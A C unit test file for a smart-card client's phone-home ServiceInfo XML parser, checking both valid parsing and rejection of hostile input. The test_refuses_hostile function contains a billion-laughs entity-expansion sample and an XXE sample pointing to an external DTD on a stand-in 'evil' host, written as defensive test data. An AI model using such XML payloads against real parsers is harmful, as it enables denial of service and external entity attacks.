/* test_ph_xml: the phone-home ServiceInfo parser keeps what ESC keeps and refuses what a
 * hostile server could send (DTDs, entities, oversize, control characters). */
#include "check.h"
#include "engine/phone_home.h"

#include <stdlib.h>

static const char stock[] = "<ServiceInfo>\n"
                            " <IssuerName>FedoraProject</IssuerName>\n"
                            " <Services>\n"
                            "  <Operation>https://tps.example.com:8443/tps/tps</Operation>\n"
                            "  <UI></UI>\n"
                            "  <EnrolledTokenBrowserURL>http://fedoraproject.org"
                            "</EnrolledTokenBrowserURL>\n"
                            "  <EnrolledTokenURL></EnrolledTokenURL>\n"
                            "  <TokenType>userKey</TokenType>\n"
                            " </Services>\n"
                            "</ServiceInfo>\n";

static void test_stock_document(void)
{
    struct ph_profile p;
    char err[200];
    memset(&p, 0, sizeof p);
    EXPECT_EQ(ph_xml_parse(stock, strlen(stock), &p, err, sizeof err), 0);
    EXPECT_STR(p.issuer, "FedoraProject");
    EXPECT_STR(p.operation, "https://tps.example.com:8443/tps/tps");
    EXPECT_STR(p.ui, "");
    EXPECT_STR(p.enrolled_browser_url, "http://fedoraproject.org");
    EXPECT_STR(p.token_type, "userKey");
    EXPECT_STR(p.ca_chain_ui, "");
}

static void test_legacy_with_declaration_and_cachain(void)
{
    const char *x = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
                    "<ServiceInfo><IssuerName>A &amp; B</IssuerName><Services>"
                    "<Operation> http://h:8080/nk_service </Operation>"
                    "<UI>http://h/cgi-bin/home/index.cgi</UI>"
                    "<CAChainUI>http://h/ca</CAChainUI><Extra>x</Extra></Services></ServiceInfo>";
    struct ph_profile p;
    char err[200];
    EXPECT_EQ(ph_xml_parse(x, strlen(x), &p, err, sizeof err), 0);
    EXPECT_STR(p.issuer, "A & B");
    EXPECT_STR(p.operation, "http://h:8080/nk_service");
    EXPECT_STR(p.ca_chain_ui, "http://h/ca");
    EXPECT_STR(p.token_type, "");
}

static void test_refuses_hostile(void)
{
    struct ph_profile p;
    char err[200];
    const char *laughs = "<?xml version=\"1.0\"?><!DOCTYPE ServiceInfo [<!ENTITY a \"aaaaaaaaaa\">"
                         "<!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">]>"
                         "<ServiceInfo><IssuerName>&b;</IssuerName><Services/></ServiceInfo>";
    const char *xxe = "<?xml version=\"1.0\"?><!DOCTYPE x SYSTEM \"http://evil/x.dtd\">"
                      "<ServiceInfo><Services/></ServiceInfo>";
    EXPECT_EQ(ph_xml_parse(laughs, strlen(laughs), &p, err, sizeof err), -1);
    EXPECT(strstr(err, "DTD") != NULL);
    EXPECT_EQ(ph_xml_parse(xxe, strlen(xxe), &p, err, sizeof err), -1);
    const char *bad[] = {
        "",
        "<ServiceInfo><Services>",                               /* not well formed */
        "<Other><Services/></Other>",                            /* wrong root */
        "<ServiceInfo><IssuerName>x</IssuerName></ServiceInfo>", /* no Services */
        "<ServiceInfo><Services><Operation>a&#1;b</Operation></Services></ServiceInfo>",
        "<ServiceInfo><Services><TokenType>a&#10;b</TokenType></Services></ServiceInfo>",
    };
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++)
        EXPECT_EQ(ph_xml_parse(bad[i], strlen(bad[i]), &p, err, sizeof err), -1);
    EXPECT_EQ(ph_xml_parse(bad[3], strlen(bad[3]), &p, err, sizeof err), -1);
    EXPECT(strstr(err, "no Services") != NULL);
}

static void test_refuses_oversize(void)
{
    struct ph_profile p;
    char err[200];
    size_t n = PH_XML_MAX + 100;
    char *big = malloc(n + 1);
    EXPECT(big != NULL);
    memset(big, ' ', n);
    memcpy(big, "<ServiceInfo><Services>", 23);
    memcpy(big + n - 26, "</Services></ServiceInfo>", 25);
    big[n] = 0;
    EXPECT_EQ(ph_xml_parse(big, n, &p, err, sizeof err), -1);
    EXPECT(strstr(err, "too large") != NULL);
    /* an IssuerName longer than the profile keeps */
    char *x = malloc(2000);
    EXPECT(x != NULL);
    strcpy(x, "<ServiceInfo><IssuerName>");
    memset(x + 25, 'A', 600);
    strcpy(x + 625, "</IssuerName><Services/></ServiceInfo>");
    EXPECT_EQ(ph_xml_parse(x, strlen(x), &p, err, sizeof err), -1);
    free(big);
    free(x);
}

int main(void)
{
    RUN(test_stock_document);
    RUN(test_legacy_with_declaration_and_cachain);
    RUN(test_refuses_hostile);
    RUN(test_refuses_oversize);
    return check_status();
}
